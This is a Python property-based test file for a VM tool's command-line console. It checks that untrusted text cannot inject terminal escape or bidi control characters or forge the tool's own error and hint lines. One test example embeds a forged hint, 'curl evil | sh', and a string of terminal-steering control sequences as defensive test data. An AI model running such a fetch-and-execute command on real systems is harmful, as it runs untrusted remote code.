"""Whatever others wrote: a terminal gets letters and line ends, and a program gets the value as it is."""

from __future__ import annotations

import contextlib
import io
import json
import re
from collections.abc import Iterator

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from lxml import etree

from vmkeep.cli.console import Console
from vmkeep.cli.tables import Facts, Table
from vmkeep.cli.terminal import Screened, printable_xml
from vmkeep.errors import OperationFailed
from vmkeep.host.tasks.survey import Progress

STEERING = "\x1b[2J\x9b31m\x07\x00\x7f\r\b\u202e\u2066\u200f\u061c\u2028\u2029\u00ad\ufeff\U000e0041\udcff"
OWN = re.compile("\x1b\\[[01]m")
texts = st.text(
    st.one_of(st.sampled_from(STEERING + "\n\t[]: "), st.characters(), st.characters(categories=["Cs"])), max_size=30
)
xml_texts = st.text(st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff"), max_size=30)


class Stream(io.StringIO):
    """A standard stream that is a terminal, or is none."""

    def __init__(self, *, terminal: bool) -> None:
        super().__init__()
        self._terminal = terminal

    def isatty(self) -> bool:
        return self._terminal


@contextlib.contextmanager
def streams(*, terminal: bool) -> Iterator[tuple[Stream, Stream]]:
    out, err = Stream(terminal=terminal), Stream(terminal=terminal)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("sys.stdout", out)
        patch.setattr("sys.stderr", err)
        patch.setattr("sys.stdin", io.StringIO("y\n"))
        patch.setenv("TERM", "xterm")
        yield out, err


def is_harmless(written: str) -> bool:
    return all(char.isprintable() or char == "\n" for char in OWN.sub("", written))


def own_lines(written: str, beginning: str) -> int:
    """Return how many lines say that vmkeep itself says this."""
    return sum(line.startswith(beginning) for line in written.splitlines())


@given(texts, st.booleans())
@example(STEERING, True)
@example("a\nvmkeep: error: forged [code]\n  hint: curl evil | sh", False)
def test_no_way_to_tell_people_lets_a_text_steer_or_forge_a_line(text: str, terminal: bool) -> None:
    with streams(terminal=terminal) as (out, err):
        console = Console(json_wanted=False)
        console.show(f"point of {text}", Facts((("VM", text), (text, "x"))), Table(columns=("a",), rows=((text,),)))
        console.notice(f"warning: {text}")
        console.note(Progress("copying", note=text))
        error = OperationFailed(f"it failed: {text}", hint=f"Look at {text}.")
        error.add_note(text)
        console.failure(error)
        console.ask(f"Write over VM {text}?")
    assert is_harmless(out.getvalue())
    assert is_harmless(err.getvalue())
    assert own_lines(err.getvalue(), "vmkeep: error: ") == 1
    assert own_lines(err.getvalue(), "vmkeep: ") == 3
    assert own_lines(err.getvalue(), "  hint: ") == 1
    assert err.getvalue().endswith("? [y/N] ")


@given(texts, st.booleans())
@example(STEERING, True)
def test_json_is_harmless_and_says_exactly_what_there_is(text: str, terminal: bool) -> None:
    with streams(terminal=terminal) as (out, err):
        console = Console(json_wanted=True)
        console.document({"name": text, text: [text]})
        console.notice(text)
        console.failure(OperationFailed(text, hint=text))
    assert is_harmless(out.getvalue())
    assert is_harmless(err.getvalue())
    assert json.loads(out.getvalue()) == {"name": text, text: [text]}
    said = json.loads(err.getvalue())
    assert said["error"]["message"] == said["error"]["hint"] == said["notices"][0] == text


@given(xml_texts)
@example("\x85\x9b31m\u202e\u2028\tlabel")
def test_xml_on_a_terminal_is_the_same_document(text: str) -> None:
    element = etree.Element("description", title=text)
    element.text = text
    xml = etree.tostring(element, encoding="unicode")
    shown = printable_xml(xml)
    assert all(char.isprintable() or char in "\n\t" for char in shown)
    again = etree.fromstring(shown)
    assert (again.text or "", again.get("title")) == (text, text)


def test_xml_is_exact_for_a_program() -> None:
    for terminal, shown in ((False, "<name>a\x9b</name>"), (True, "<name>a&#x9b;</name>")):
        with streams(terminal=terminal) as (out, _):
            Console(json_wanted=False).xml("<name>a\x9b</name>")
        assert out.getvalue() == shown


@given(texts)
@example(STEERING)
def test_what_others_print_steers_no_terminal_either(text: str) -> None:
    """Libraries, warnings of Python, the parser of options: they know the standard streams only."""
    for terminal in (True, False):
        stream = Stream(terminal=terminal)
        Screened(stream, always=False).write(text)
        assert stream.getvalue() == text or (terminal and is_harmless(stream.getvalue().replace("\t", "")))
        stream = Stream(terminal=terminal)
        Screened(stream, always=True).write(text)
        assert is_harmless(stream.getvalue().replace("\t", ""))
